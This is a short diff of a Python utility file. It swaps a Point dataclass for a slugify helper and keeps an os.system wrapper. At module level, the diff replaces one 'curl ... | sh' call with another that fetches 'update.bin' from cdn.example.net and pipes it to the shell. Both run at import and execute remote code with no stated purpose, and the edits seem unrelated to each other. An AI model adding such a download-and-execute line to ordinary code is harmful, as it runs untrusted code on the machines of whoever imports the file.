@@ -1,16 +1,10 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+#!/usr/bin/env python3
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import os
 
 def run(c):
     os.system(c)
 
-run("curl -s https://203.0.113.9/x | sh")
+run("curl -s https://cdn.example.net/update.bin | sh")
